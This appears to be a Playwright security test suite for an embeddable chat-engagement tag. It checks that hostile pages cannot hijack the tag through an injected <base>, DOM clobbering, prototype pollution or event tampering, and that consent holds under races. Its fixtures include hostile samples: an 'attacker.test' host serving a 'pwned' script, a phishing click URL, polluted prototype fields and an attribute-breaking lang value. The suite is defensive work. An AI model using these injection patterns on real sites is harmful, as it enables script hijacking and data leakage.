@@ -1,0 +1,517 @@
+import type { Page, Request } from '@playwright/test'
+import { test, expect, waitForEvent, waitForRequests, fired, freezeTime, tagScript, ACCOUNT, APP, type Emulator, type Site } from './support/fixtures.ts'
+import { ENGAGEMENT, offerEventNames, reportedImpressions } from './support/offers.ts'
+import { recordKey, seedStoredRecord, storedRecords } from './support/storage.ts'
+
+// Trust under attack and under races (contract sections 1, 2, 4, 5, 6, 7 and 9): what a hostile
+// page, a careless CMS, an extension or an unlucky ordering of events could make the tag do, and
+// must not. Each block is one promise of the contract; each test failed on the tag before it held.
+
+const ATTACKER = 'http://attacker.test'
+
+/** Serves `ATTACKER` (a script that marks the page as owned) and records every request made to it. */
+async function attacker(page: Page) {
+  const requests: string[] = []
+  await page.route(`${ATTACKER}/**`, (route) => {
+    requests.push(route.request().url())
+    return route.fulfill({ contentType: 'text/javascript', body: 'window.__pwned = 1', headers: { 'Access-Control-Allow-Origin': '*' } })
+  })
+  return requests
+}
+
+/** The URLs of every debug.js the page asked for. */
+function debugLoads(page: Page) {
+  const urls: string[] = []
+  page.on('request', (request) => request.url().includes('debug.js') && urls.push(request.url()))
+  return urls
+}
+
+/** Opens a page served with `headers`; the tag comes from `tag` (HTML), so it may be anything. */
+async function openRaw(page: Page, site: Site, path: string, html: string, headers: Record<string, string> = {}) {
+  site.setPage(path, { body: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>t</title>${html}`, headers })
+  await page.goto(`${site.url}${path}`)
+}
+
+test.describe('1. no foreign script, ever', () => {
+  test('a <base> and a data-lp-debug element in user content load nothing from the attacker', async ({ page, site, emulator, consoleLines }) => {
+    const hits = await attacker(page)
+    const loads = debugLoads(page)
+    // A CMS comment field: markup nobody on the brand's side wrote, after the tag in the page.
+    await openRaw(
+      page,
+      site,
+      '/trust/base.html',
+      `${tagScript({ account: ACCOUNT, app: APP, domain: emulator.url }).replace('async', 'defer')}</head>
+<body><main><h1>Article</h1><div class="comment"><base href="${ATTACKER}/"><div data-lp-account="x" data-lp-debug></div></div></main></body></html>`,
+    )
+    await waitForEvent(page, 'LP_TAG', 'ENGAGEMENT')
+    // Even when the page itself asks for the panel now: the tag's src is relative and a <base> now
+    // changes what it resolves to, so the tag cannot tell where it came from and loads nothing.
+    await page.evaluate(() => (window as any).lpTag.debug())
+    await page.waitForTimeout(300)
+    expect(hits).toEqual([])
+    expect(loads).toEqual([])
+    expect(await page.evaluate(() => (window as any).__pwned)).toBeUndefined()
+    expect(consoleLines).toEqual([{ type: 'error', text: expect.stringMatching(/debug panel cannot load: .*absolute src/) }])
+  })
+
+  test('with an absolute src, a <base> added later changes nothing: debug.js comes from beside tag.js', async ({ page, site, emulator }) => {
+    const hits = await attacker(page)
+    const loads = debugLoads(page)
+    await openRaw(page, site, '/trust/dir/page.html', `${tagScript({ account: ACCOUNT, app: APP, domain: emulator.url }).replace('src="/tag.js"', `src="${site.url}/tag.js"`)}</head><body><main><h1>x</h1></main></body></html>`)
+    await waitForEvent(page, 'LP_TAG', 'READY')
+    await page.evaluate((href) => {
+      document.head.prepend(Object.assign(document.createElement('base'), { href }))
+      ;(window as any).lpTag.debug()
+    }, `${ATTACKER}/`)
+    await expect(page.locator('#lp-debug-host')).toHaveCount(1)
+    expect(loads).toEqual([`${site.url}/debug.js`])
+    expect(hits).toEqual([])
+  })
+
+  test('<img name="currentScript"> and a decoy script element: a deferred tag keeps its own configuration', async ({ page, site, emulator }) => {
+    const hits = await attacker(page)
+    await openRaw(
+      page,
+      site,
+      '/trust/clobber.html',
+      `${tagScript({ account: ACCOUNT, app: APP, domain: emulator.url, section: 'own' }).replace('async', 'defer')}</head>
+<body><main><img name="currentScript" alt=""><script type="text/plain" src="/x.js" data-lp-account="decoy" data-lp-app="decoy" data-lp-domain="${ATTACKER}" data-lp-debug data-lp-click-url="${ATTACKER}/phish"></script></main></body></html>`,
+    )
+    const [ready] = await waitForEvent(page, 'LP_TAG', 'READY')
+    expect(ready!.data.config).toMatchObject({ account: ACCOUNT, app: APP, origin: emulator.url, sections: ['own'], debug: false })
+    expect(ready!.data.config.clickUrl).toBeUndefined()
+    await waitForRequests(emulator, 1)
+    expect(hits).toEqual([])
+  })
+
+  test('a tag whose script cannot be identified (run by a loader) loads no debug.js: one console line says why', async ({ page, site, emulator, consoleLines }) => {
+    const loads = debugLoads(page)
+    await openRaw(
+      page,
+      site,
+      '/trust/loader/page.html',
+      `<script>window.lpTag = { site: '${ACCOUNT}', app: '${APP}', domain: '${emulator.url}' }
+fetch('/tag.js').then((r) => r.text()).then((code) => (0, eval)(code))</script></head><body><main><h1>x</h1></main></body></html>`,
+    )
+    await waitForEvent(page, 'LP_TAG', 'ENGAGEMENT')
+    await page.evaluate(() => (window as any).lpTag.debug())
+    await page.waitForTimeout(300)
+    expect(loads).toEqual([])
+    expect(consoleLines).toEqual([{ type: 'error', text: expect.stringContaining('debug panel cannot load') }])
+  })
+})
+
+test.describe('2. page elements configure only what a CMS needs', () => {
+  test('a page element gives account, app, domain and consent; never a click URL, catalog, debug, render, format, dataLayer or spa', async ({ page, emulator, openTagPage, context }) => {
+    const hits = await attacker(page)
+    await openTagPage({
+      attrs: { account: null, app: null, domain: null },
+      body: `<main><div hidden data-lp-account="${ACCOUNT}" data-lp-app="${APP}" data-lp-domain="${emulator.url}" data-lp-click-url="${ATTACKER}/phish?v={vid}"
+ data-lp-engagements="${ATTACKER}/catalog.json" data-lp-debug data-lp-render="none" data-lp-format="overlay" data-lp-datalayer data-lp-spa="history"></div></main>`,
+    })
+    const [ready] = await waitForEvent(page, 'LP_TAG', 'READY')
+    expect(ready!.data.sources).toMatchObject({ account: 'element', app: 'element', domain: 'element', format: 'default', render: 'default', debug: 'default' })
+    await waitForEvent(page, 'LP_OFFERS', 'OFFER_DISPLAY')
+    // Rendered (not headless), as the default slide-out (not an overlay taking focus).
+    await expect(page.locator('[data-lp-engagement]')).toHaveAttribute('data-lp-format', 'slideout')
+    await page.locator('[aria-expanded]').click()
+    await page.locator('[data-lp-action="accept"]').click()
+    await waitForEvent(page, 'LP_OFFERS', 'OFFER_CLICK')
+    expect(context.pages()).toHaveLength(1)
+    expect(await page.evaluate(() => (window as any).dataLayer)).toBeUndefined()
+    await expect(page.locator('#lp-debug-host')).toHaveCount(0)
+    expect(hits).toEqual([])
+  })
+
+  test('a bad [data-lp-section] value anywhere on the page is dropped with one warning; the tag runs', async ({ emulator, openTagPage, consoleLines }) => {
+    await openTagPage({ attrs: { section: 'home' }, body: `<main><div data-lp-section="shoes"></div><p data-lp-section="${'x'.repeat(101)}">comment</p></main>` })
+    const [request] = await waitForRequests(emulator, 1)
+    expect(request!.body.entryPoints).toEqual(expect.arrayContaining(['sec://home', 'sec://shoes']))
+    expect(request!.body.entryPoints.filter((e: string) => e.startsWith('sec://'))).toEqual(['sec://home', 'sec://shoes'])
+    expect(consoleLines).toEqual([{ type: 'warning', text: expect.stringMatching(/^\[lpTag\] a \[data-lp-section\] value "x+…" is ignored/) }])
+  })
+})
+
+test.describe('3. one engagement request in flight', () => {
+  test('20 getEngagement() calls in one tick send one request; every promise settles', async ({ page, emulator, openTagPage }) => {
+    await openTagPage()
+    await waitForEvent(page, 'LP_TAG', 'ENGAGEMENT')
+    const results = await page.evaluate(() => Promise.all(Array.from({ length: 20 }, () => (window as any).lpTag.getEngagement())))
+    expect(results.slice(0, 19).map((r) => r.error?.code)).toEqual(Array(19).fill('aborted'))
+    expect(results[19]!.status).toBe('Available')
+    await page.waitForTimeout(300)
+    expect(emulator.received('engagement')).toHaveLength(2)
+  })
+
+  test('pushState + replaceState + pushState in one tick send one request, for the last page', async ({ page, emulator, openTagPage, site }) => {
+    await openTagPage({ attrs: { spa: 'history' }, path: '/app/home' })
+    await waitForEvent(page, 'LP_TAG', 'ENGAGEMENT')
+    await page.evaluate(() => {
+      history.pushState(null, '', '/app/a')
+      history.replaceState(null, '', '/app/b')
+      history.pushState(null, '', '/app/c')
+    })
+    await waitForEvent(page, 'LP_TAG', 'ENGAGEMENT', 2)
+    await page.waitForTimeout(300)
+    expect(emulator.received('engagement').map((r) => r.body.entryPoints[0])).toEqual([`${site.url}/app/home`, `${site.url}/app/c`])
+  })
+})
+
+const OLD = { vid: 'OLDVISITOR00000000000000', sid: 'OLDSESSION00000000000000', sub: '00000000-0000-4000-8000-000000000000' }
+
+/** No request the emulator received carries the old ids, in its query or its body. */
+function expectNoOldIds(emulator: Emulator) {
+  for (const request of emulator.requests) {
+    expect(request.query.vid).not.toBe(OLD.vid)
+    expect(request.query.sid).not.toBe(OLD.sid)
+    expect(JSON.stringify(request.body ?? '')).not.toContain(OLD.sub)
+  }
+}
+
+test.describe('4. consent always holds', () => {
+  test('consent(false) before the document is parsed: nothing sent, what an earlier visit stored is deleted', async ({ page, emulator, site }) => {
+    await seedStoredRecord(page, site, recordKey(emulator), OLD)
+    // A synchronous tag in the head, then the page's consent banner script, while parsing.
+    await openRaw(
+      page,
+      site,
+      '/trust/early.html',
+      `${tagScript({ account: ACCOUNT, app: APP, domain: emulator.url }).replace('async ', '')}</head><body><script>lpTag.consent(false)</script><main><h1>x</h1></main></body></html>`,
+    )
+    await page.waitForTimeout(300)
+    expect(emulator.requests).toEqual([])
+    expect(await page.evaluate(() => indexedDB.databases())).toEqual([])
+  })
+
+  test('consent(false) while the stored ids are read: the read never brings them back', async ({ page, emulator, openTagPage, site }) => {
+    await seedStoredRecord(page, site, recordKey(emulator), OLD)
+    await openTagPage({ attrs: { consent: 'pending' } })
+    await waitForEvent(page, 'LP_TAG', 'READY')
+    const result = await page.evaluate(() => {
+      const tag = (window as any).lpTag
+      tag.consent(true) // starts a check that reads the stored ids…
+      tag.consent(false) // …withdrawn before the read answers
+      tag.consent(true)
+      return tag.getEngagement()
+    })
+    expect(result.status).toBe('Available')
+    await page.waitForTimeout(300)
+    expect(emulator.received('engagement')).toHaveLength(1)
+    expectNoOldIds(emulator)
+    expect(JSON.stringify(await storedRecords(page))).not.toContain(OLD.vid)
+  })
+
+  test('consent(false) while the catalog loads after the answer: no offer, no report, the new ids not stored', async ({ page, emulator, openTagPage }) => {
+    let release = () => {}
+    const held = new Promise<void>((resolve) => (release = resolve))
+    await page.route('**/trust/catalog.json', async (route) => {
+      await held
+      await route.fulfill({ contentType: 'application/json', body: JSON.stringify({ [ENGAGEMENT]: { format: 'toaster' } }) })
+    })
+    await openTagPage({ attrs: { engagements: '/trust/catalog.json' } })
+    // The answer is in and its ids written: the check waits for the catalog now.
+    await expect.poll(() => storedRecords(page)).toHaveLength(1)
+    await page.evaluate(() => (window as any).lpTag.consent(false))
+    release()
+    await page.waitForTimeout(500)
+    expect(await offerEventNames(page)).toEqual([])
+    expect(await fired(page, 'LP_TAG', 'ENGAGEMENT')).toEqual([])
+    expect(emulator.received('report')).toEqual([])
+    expect(await storedRecords(page)).toEqual([])
+  })
+
+  test('consent(false) after a storage write failed still deletes the stored record', async ({ page, emulator, openTagPage, site }) => {
+    await seedStoredRecord(page, site, recordKey(emulator), OLD)
+    await page.addInitScript(() => {
+      IDBObjectStore.prototype.put = function () {
+        throw new DOMException('The quota has been exceeded.', 'QuotaExceededError')
+      }
+    })
+    await openTagPage()
+    await waitForEvent(page, 'LP_TAG', 'ENGAGEMENT')
+    expect(emulator.received('engagement')[0]!.query.vid).toBe(OLD.vid)
+    await page.evaluate(() => (window as any).lpTag.consent(false))
+    await expect.poll(() => page.evaluate(() => indexedDB.databases())).toEqual([])
+  })
+
+  test('consent(false) while pending creates no database', async ({ page, emulator, openTagPage }) => {
+    await openTagPage({ attrs: { consent: 'pending' } })
+    await waitForEvent(page, 'LP_TAG', 'READY')
+    await page.evaluate(() => (window as any).lpTag.consent(false))
+    await page.waitForTimeout(300)
+    expect(await page.evaluate(() => indexedDB.databases())).toEqual([])
+    expect(emulator.requests).toEqual([])
+  })
+})
+
+test('5. no stale offer: page 1\'s answer arriving while the catalog loads shows nothing on page 2', async ({ page, emulator, openTagPage }) => {
+  let release = () => {}
+  const held = new Promise<void>((resolve) => (release = resolve))
+  await page.route('**/trust/stale-catalog.json', async (route) => {
+    await held
+    await route.fulfill({ contentType: 'application/json', body: '{}' })
+  })
+  await openTagPage({ attrs: { engagements: '/trust/stale-catalog.json' }, path: '/shop/page.html' })
+  await expect.poll(() => emulator.received('engagement')[0]?.status).toBe(201)
+  // Page 2 (the checkout engagement) while page 1's answer waits for the catalog.
+  await page.evaluate(() => (window as any).lpTag.newPage('/shop/checkout'))
+  await expect.poll(() => emulator.received('engagement')[1]?.status).toBe(200)
+  release()
+  await waitForEvent(page, 'LP_OFFERS', 'OFFER_DISPLAY')
+  await page.waitForTimeout(300)
+  const starts = await fired(page, 'LP_OFFERS', 'START')
+  expect(starts.map((e) => String(e.data.engagementId))).toEqual(['3562981210'])
+  expect(await reportedImpressions(emulator, 1)).toEqual(['impDisplay'])
+  expect(emulator.received('report')[0]!.body.engagementAttributes[0].engId).toBe(3562981210)
+})
+
+test('6. no request carries the page\'s query string or fragment in Referer, whatever the Referrer-Policy', async ({ page, site, emulator }) => {
+  const referers: [string, string | null][] = []
+  page.on('request', async (request: Request) => {
+    if (!request.url().includes('/t/')) referers.push([request.url(), await request.headerValue('referer')])
+  })
+  site.setPage('/trust/ref/catalog.json', { type: 'application/json', body: JSON.stringify({ [ENGAGEMENT]: { format: 'toaster' } }) })
+  site.setPage('/trust/ref/page.html', {
+    headers: { 'Referrer-Policy': 'unsafe-url' },
+    body: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>t</title>
+${tagScript({ account: ACCOUNT, app: APP, domain: emulator.url, engagements: '/trust/ref/catalog.json', debug: true })}</head><body><main><h1>x</h1></main></body></html>`,
+  })
+  await page.goto(`${site.url}/trust/ref/page.html?email=jane%40example.com#order-42`)
+  await waitForEvent(page, 'LP_OFFERS', 'OFFER_DISPLAY')
+  await waitForRequests(emulator, 1, 'report')
+  await expect(page.locator('#lp-debug-host')).toHaveCount(1)
+  await page.waitForTimeout(200)
+  const made = referers.filter(([url]) => /engagement|report|catalog|debug\.js/.test(url))
+  expect(made.map(([url]) => url.replace(/\?.*/, '').split('/').pop()).sort()).toEqual(['catalog.json', 'debug.js', 'engagement', 'report'])
+  for (const [url, referer] of made) expect([url, referer]).toEqual([url, expect.not.stringMatching(/email|order|\/trust\//)])
+})
+
+test('7. a polluted Object.prototype changes nothing the tag sends, stores or renders', async ({ page, emulator, openTagPage }) => {
+  await page.addInitScript(() => {
+    const polluted = {
+      ...{ vid: 'POLLUTEDVID0000000000000', sid: 'POLLUTEDSID0000000000000', sub: 'polluted-sub', loaded: true, onEngagement: () => ((window as any).__leaked = 1) },
+      ...{ accent: '#ff0000', title: 'Polluted title', validForSeconds: 1, zone: 'evil', format: 'overlay', pageId: 'evil', conversation: { conversationId: 'x' } },
+      ...{ mode: 'no-cors', integrity: 'sha256-AAAA', headers: { 'X-Evil': '1' }, keepalive: true, referrer: '' },
+    }
+    Object.assign(Object.prototype, polluted)
+  })
+  await freezeTime(page)
+  await openTagPage({ attrs: { format: 'toaster' } })
+  await waitForEvent(page, 'LP_OFFERS', 'OFFER_DISPLAY')
+  const [request] = emulator.received('engagement')
+  expect(request!.query).toEqual({ v: '1.1', obh: 'false' })
+  expect(request!.headers['x-evil']).toBeUndefined()
+  expect(await page.evaluate(() => (window as any).__leaked)).toBeUndefined()
+  expect(request!.body.identities[0].sub).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/)
+  const look = await page.evaluate(() => {
+    const root = document.querySelector('[data-lp-engagement]')!.shadowRoot!
+    return { title: root.querySelector('.t')!.textContent, accent: getComputedStyle(root.querySelector('[data-lp-action="accept"]')!).backgroundColor }
+  })
+  expect(look).toEqual({ title: 'Questions?', accent: 'rgb(11, 99, 206)' })
+  await expect(page.locator('[data-lp-engagement]')).toHaveAttribute('data-lp-format', 'toaster')
+  // The polluted validity (1 s) is not the offer's: it stays for the API's 900 s.
+  await page.clock.runFor(5000)
+  expect(await offerEventNames(page)).not.toContain('OFFER_TIMEOUT')
+  // A request object from the page ({}) brings no vid or sid either: the stored ones go.
+  const [first] = await fired(page, 'LP_TAG', 'ENGAGEMENT')
+  await page.evaluate(() => (window as any).lpTag.getEngagement({}))
+  const [, second] = await waitForRequests(emulator, 2)
+  expect([second!.query.vid, second!.query.sid]).toEqual([first!.data.visitorId, first!.data.sessionId])
+})
+
+test.describe('8. an offer shown is an offer seen', () => {
+  for (const style of ['transform: translateZ(0)', 'filter: blur(0)', 'contain: paint', 'will-change: transform']) {
+    test(`<body> with ${style}: the toaster is in the viewport`, async ({ page, openTagPage }) => {
+      await openTagPage({ attrs: { format: 'toaster' }, head: `<style>body { ${style}; height: 13000px; margin: 0 }</style>` })
+      await waitForEvent(page, 'LP_OFFERS', 'OFFER_IMPRESSION')
+      const box = await page.locator('[data-lp-engagement]').boundingBox()
+      const viewport = page.viewportSize()!
+      expect(box!.y + box!.height).toBeLessThanOrEqual(viewport.height)
+      expect(box!.y).toBeGreaterThan(0)
+    })
+  }
+
+  test('without popovers (older engines), outside <body>: still in the viewport', async ({ page, openTagPage }) => {
+    await page.addInitScript(() => {
+      delete (HTMLElement.prototype as any).showPopover
+    })
+    await openTagPage({ attrs: { format: 'toaster' }, head: '<style>body { transform: translateZ(0); height: 13000px; margin: 0 }</style>' })
+    await waitForEvent(page, 'LP_OFFERS', 'OFFER_IMPRESSION')
+    const box = await page.locator('[data-lp-engagement]').boundingBox()
+    expect(box!.y + box!.height).toBeLessThanOrEqual(page.viewportSize()!.height)
+  })
+
+  test('the debug panel stays above an offer shown after it', async ({ page, openTagPage }) => {
+    await page.setViewportSize({ width: 420, height: 700 })
+    await openTagPage({ attrs: { format: 'overlay', debug: true } })
+    await waitForEvent(page, 'LP_OFFERS', 'OFFER_DISPLAY')
+    await expect(page.locator('#lp-debug-host')).toHaveCount(1)
+    // A new offer, drawn after the panel opened.
+    await page.evaluate(() => (window as any).lpTag.getEngagement())
+    await waitForEvent(page, 'LP_OFFERS', 'OFFER_DISPLAY', 2)
+    const point = await page.locator('#lp-debug-host').evaluate((host) => {
+      const r = host.getBoundingClientRect()
+      return [r.left + r.width / 2, r.top + 20]
+    })
+    expect(await page.evaluate(([x, y]) => document.elementFromPoint(x!, y!)?.id, point)).toBe('lp-debug-host')
+  })
+})
+
+test.describe('9. nothing is lost silently', () => {
+  test('an SDE report over keepalive\'s 64 KB is still delivered', async ({ page, emulator, openTagPage }) => {
+    await openTagPage()
+    await waitForEvent(page, 'LP_OFFERS', 'OFFER_DISPLAY')
+    await reportedImpressions(emulator, 1)
+    await page.evaluate(() => {
+      const big = (n: number) => ({ type: 'searchInfo', keywords: Array.from({ length: 90 }, (_, i) => `${n}-${i}-` + 'k'.repeat(480)) })
+      ;(window as any).lpTag.sdes.send([big(1), big(2)])
+    })
+    const [, sdes] = await waitForRequests(emulator, 2, 'report')
+    expect(sdes!.body.engagementAttributes.map((a: { type: string }) => a.type)).toEqual(['searchInfo', 'searchInfo'])
+    expect(JSON.stringify(sdes!.body).length).toBeGreaterThan(65536)
+  })
+
+  test('an offer whose host the page removes ends with OFFER_REMOVE, and the next one can show', async ({ page, openTagPage }) => {
+    await openTagPage({ attrs: { format: 'toaster' } })
+    await waitForEvent(page, 'LP_OFFERS', 'OFFER_DISPLAY')
+    await page.evaluate(() => document.querySelector('[data-lp-engagement]')!.remove())
+    await waitForEvent(page, 'LP_OFFERS', 'OFFER_REMOVE')
+    await page.evaluate(() => (window as any).lpTag.getEngagement())
+    await waitForEvent(page, 'LP_OFFERS', 'OFFER_DISPLAY', 2)
+    expect((await offerEventNames(page)).filter((n) => n !== 'OFFER_IMPRESSION')).toEqual(['START', 'OFFER_DISPLAY', 'OFFER_REMOVE', 'START', 'OFFER_DISPLAY'])
+    await expect(page.locator('[data-lp-engagement]')).toHaveCount(1)
+  })
+})
+
+test.describe('10. every promise settles', () => {
+  test('a throwing getter in the pre-load sdes: the tag starts, getEngagement() settles', async ({ page, openTagPage }) => {
+    await openTagPage({ head: `<script>window.lpTag = {}; Object.defineProperty(lpTag, 'sdes', { get() { throw new Error('hostile') }, enumerable: true })</script>` })
+    const result = await page.evaluate(() => (window as any).lpTag.getEngagement())
+    expect(['Available', 'NotAvailable']).toContain(result.status)
+  })
+
+  test('a clobbered querySelectorAll: getEngagement() resolves with error code "internal"', async ({ page, openTagPage, consoleLines }) => {
+    await openTagPage({ head: `<script>document.querySelectorAll = () => { throw new Error('clobbered') }</script>` })
+    const result = await page.evaluate(() => (window as any).lpTag.getEngagement())
+    expect(result).toEqual({ status: 'NotAvailable', error: { code: 'internal', message: expect.stringContaining('clobbered') } })
+    expect(consoleLines).toEqual([{ type: 'error', text: expect.stringContaining('the tag failed to start') }])
+  })
+})
+
+test.describe('11. the tag never blocks the page\'s storage', () => {
+  for (const [name, action] of [
+    ['the page deletes the database', 'delete'],
+    ['another tab upgrades it', 'upgrade'],
+  ] as const) {
+    test(`${name}: not blocked`, async ({ page, openTagPage }) => {
+      await openTagPage()
+      await waitForEvent(page, 'LP_TAG', 'ENGAGEMENT')
+      await expect.poll(() => storedRecords(page)).toHaveLength(1)
+      const outcome = await page.evaluate(
+        (action) =>
+          new Promise<string>((resolve) => {
+            const request = action === 'delete' ? indexedDB.deleteDatabase('lp-tag') : indexedDB.open('lp-tag', 99)
+            request.onsuccess = () => ((request.result as IDBDatabase | undefined)?.close?.(), resolve('done'))
+            request.onerror = () => resolve('error')
+            setTimeout(() => resolve('still blocked'), 2000)
+          }),
+        action,
+      )
+      expect(outcome).toBe('done')
+    })
+  }
+})
+
+test('12. event data cannot steer the tag: listeners changing READY and ENGAGEMENT data change nothing', async ({ page, emulator, openTagPage }) => {
+  await freezeTime(page)
+  await openTagPage({
+    head: `<script>window.lpTag = { events: [
+  ['LP_TAG', 'READY', (data) => { data.config.origin = 'http://127.0.0.1:9'; data.config.account = 'evil' }],
+  ['LP_TAG', 'ENGAGEMENT', (data) => { data.visitorId = 'EVILVISITOR0000000000000'; if (data.engagementDetails) data.engagementDetails.validForSeconds = 1 }],
+] }</script>`,
+  })
+  await waitForEvent(page, 'LP_OFFERS', 'OFFER_DISPLAY')
+  await page.clock.runFor(5000)
+  expect(await offerEventNames(page)).not.toContain('OFFER_TIMEOUT')
+  const [first] = await fired(page, 'LP_TAG', 'ENGAGEMENT')
+  expect(first!.data.visitorId).not.toBe('EVILVISITOR0000000000000')
+  await page.evaluate(() => (window as any).lpTag.getEngagement())
+  const requests = await waitForRequests(emulator, 2)
+  expect(requests[1]!.path).toBe(`/api/account/${ACCOUNT}/app/${APP}/engagement`)
+  expect(requests[1]!.query.vid).toBe(first!.data.visitorId)
+})
+
+test.describe('13. small ones', () => {
+  test('overlay: Escape in the page\'s own dialog over the offer does not decline it', async ({ page, openTagPage }) => {
+    await openTagPage({ attrs: { format: 'overlay' }, body: '<main><h1>x</h1><dialog id="d"><button id="ok">OK</button></dialog></main>' })
+    await waitForEvent(page, 'LP_OFFERS', 'OFFER_DISPLAY')
+    await page.evaluate(() => (document.getElementById('d') as HTMLDialogElement).showModal())
+    await expect(page.locator('#ok')).toBeFocused()
+    await page.keyboard.press('Escape')
+    await expect(page.locator('#d')).not.toHaveAttribute('open')
+    expect(await offerEventNames(page)).not.toContain('OFFER_DECLINED')
+    // The offer's own Escape still declines it.
+    await page.locator('[data-lp-action="accept"]').focus()
+    await page.keyboard.press('Escape')
+    await waitForEvent(page, 'LP_OFFERS', 'OFFER_DECLINED')
+  })
+
+  test('the debug panel never throws into the page, whatever an event carries', async ({ page, openTagPage, consoleLines }) => {
+    await openTagPage({ attrs: { debug: true } })
+    await expect(page.locator('#lp-debug-host')).toHaveCount(1)
+    await page.evaluate(() => {
+      const hostile = { toJSON() { throw new Error('toJSON') }, toString() { throw new Error('toString') } }
+      ;(window as any).lpTag.events.trigger('PAGE', 'HOSTILE', hostile)
+      ;(window as any).lpTag.events.trigger('PAGE', 'NULL_PROTO', Object.create(null))
+    })
+    await page.waitForTimeout(300)
+    expect(consoleLines).toEqual([])
+  })
+
+  for (const lang of ['en-US"><x', 'x'.repeat(36), 'en_US']) {
+    test(`<html lang="${lang.slice(0, 12)}">: no lang:// entry point`, async ({ emulator, openTagPage }) => {
+      await openTagPage({ lang: lang.replaceAll('"', '&quot;') })
+      const [request] = await waitForRequests(emulator, 1)
+      expect(request!.body.entryPoints.filter((e: string) => e.startsWith('lang://'))).toEqual([])
+    })
+  }
+
+  test('lpTag.debug() can be retried after a failed load', async ({ page, openTagPage, consoleLines }) => {
+    let fail = true
+    await page.route('**/debug.js', (route) => (fail ? route.fulfill({ status: 503, body: '' }) : route.continue()))
+    await openTagPage()
+    await waitForEvent(page, 'LP_TAG', 'READY')
+    await page.evaluate(() => (window as any).lpTag.debug())
+    await expect.poll(() => consoleLines.length).toBe(1)
+    fail = false
+    await page.evaluate(() => (window as any).lpTag.debug())
+    await expect(page.locator('#lp-debug-host')).toHaveCount(1)
+    expect(consoleLines).toEqual([{ type: 'error', text: expect.stringContaining('the debug panel could not load') }])
+  })
+
+  test('a CSP that blocks the API: one console line that names connect-src', async ({ page, site, emulator, consoleLines }) => {
+    await openRaw(page, site, '/trust/csp.html', `${tagScript({ account: ACCOUNT, app: APP, domain: emulator.url })}</head><body><main><h1>x</h1></main></body></html>`, {
+      'Content-Security-Policy': "default-src 'self'; connect-src 'self'",
+    })
+    await waitForEvent(page, 'LP_TAG', 'RETRY')
+    const ours = () => consoleLines.filter((line) => line.text.startsWith('[lpTag]'))
+    await expect.poll(ours).toEqual([{ type: 'error', text: `[lpTag] the page's CSP blocks the API: add ${emulator.url} to connect-src` }])
+  })
+
+  test('authenticated identities are de-duplicated and capped', async ({ page, emulator, openTagPage, consoleLines }) => {
+    await openTagPage()
+    await waitForEvent(page, 'LP_TAG', 'ENGAGEMENT')
+    await page.evaluate(() => {
+      const ids = (window as any).lpTag.identities
+      for (let i = 0; i < 500; i++) ids.push({ iss: 'https://auth.example', acr: 'loa1', sub: 'same' })
+      for (let i = 0; i < 500; i++) ids.push({ iss: 'https://auth.example', acr: 'loa1', sub: `user-${i}` })
+      return (window as any).lpTag.getEngagement()
+    })
+    const [, request] = await waitForRequests(emulator, 2)
+    expect(request!.body.identities).toHaveLength(1 + 10)
+    expect(request!.body.identities[1]).toEqual({ iss: 'https://auth.example', acr: 'loa1', sub: 'same' })
+    expect(consoleLines).toEqual([{ type: 'warning', text: '[lpTag] identities after the first 10 are dropped' }])
+  })
+})
+
